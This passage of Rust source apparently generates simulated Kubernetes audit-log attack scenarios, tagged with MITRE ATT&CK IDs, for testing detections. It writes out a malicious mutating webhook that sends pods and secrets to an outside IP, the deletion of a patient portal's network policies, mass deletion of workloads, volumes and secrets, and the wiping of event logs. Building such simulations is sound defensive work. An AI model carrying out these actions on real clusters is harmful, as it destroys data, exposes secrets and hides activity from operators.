    let request: &[u8] = br#"{"kind":"MutatingWebhookConfiguration","apiVersion":"admissionregistration.k8s.io/v1","metadata":{"name":"sidecar-defaults","creationTimestamp":null},"webhooks":[{"name":"defaults.sidecar.example","clientConfig":{"url":"https://198.51.100.77/mutate?token=a\u0026mode=all"},"rules":[{"operations":["CREATE","UPDATE"],"apiGroups":["*"],"apiVersions":["*"],"resources":["pods","secrets"],"scope":"*"}],"failurePolicy":"Ignore","sideEffects":"None","timeoutSeconds":3,"admissionReviewVersions":["v1"]}]}"#;
    let group = "admissionregistration.k8s.io";
    create_cluster_object(
        story,
        &actor,
        group,
        "mutatingwebhookconfigurations",
        "sidecar-defaults",
        request,
        request,
    );
}

fn network_policy_deletion(story: &mut Story<'_>) {
    let address = "10.8.0.64";
    let actor =
        person_at(story.cluster, "henrik.dahl", address, "kubectl/v1.33.3 (linux/amd64) kubernetes/80779bd");
    story.about(
        "network-policy-deletion",
        &["T1562.007"],
        &["network-policy-deleted"],
        &actor.username,
        address,
        "The policies that keep the patient portal apart are deleted one after the other.",
    );
    for name in ["default-deny", "allow-ingress-only", "deny-egress-internet"] {
        story.delete(&actor, "networking.k8s.io", "v1", "patient-portal", "networkpolicies", name);
        story.wait(3_000, 9_000);
    }
}

fn mass_deletion(story: &mut Story<'_>) {
    let address = "198.51.100.142";
    let actor =
        person_at(story.cluster, "tomasz.wrona", address, "kubectl/v1.28.0 (linux/amd64) kubernetes/855e7c4");
    story.about(
        "mass-deletion",
        &["T1485"],
        &["mass-deletion"],
        &actor.username,
        address,
        "Deployments, volumes and Secrets of three namespaces are deleted within two minutes: some sixty objects.",
    );
    let cluster = story.cluster;
    for namespace in ["billing", "lab-results", "pharmacy"] {
        for workload in cluster.workloads.iter().filter(|workload| workload.namespace == namespace) {
            story.wait(300, 1_800);
            story.delete(&actor, "apps", "v1", namespace, "deployments", workload.name);
            story.wait(300, 1_800);
            let claim = format!("data-{}-0", workload.name);
            story.delete(&actor, "", "v1", namespace, "persistentvolumeclaims", &claim);
            story.wait(300, 1_800);
            story.delete(&actor, "", "v1", namespace, "services", workload.name);
            for secret in &workload.secrets {
                story.wait(300, 1_800);
                story.delete(&actor, "", "v1", namespace, "secrets", &secret.name);
            }
        }
    }
}

fn events_deletion(story: &mut Story<'_>) {
    let address = "198.51.100.142";
    let actor = person_at(
        story.cluster,
        "ines.carvalho",
        address,
        "kubectl/v1.28.0 (linux/amd64) kubernetes/855e7c4",
    );
    story.about(
        "events-deletion",
        &["T1070"],
        &["events-deleted"],
        &actor.username,
        address,
        "The Kubernetes events of two namespaces are wiped to hide what happened.",
    );
    for namespace in ["billing", "staging"] {
        let uri = format!("/api/v1/namespaces/{namespace}/events");
        let object = ObjectRef { resource: "events", namespace, version: "v1", ..ObjectRef::default() };
        let mut step = Step::new(&actor, "deletecollection", uri, object);
        (step.level, step.body) = (REQUEST, DELETE_OPTIONS);
        story.step(step);
        story.wait(2_000, 6_000);
    }
}
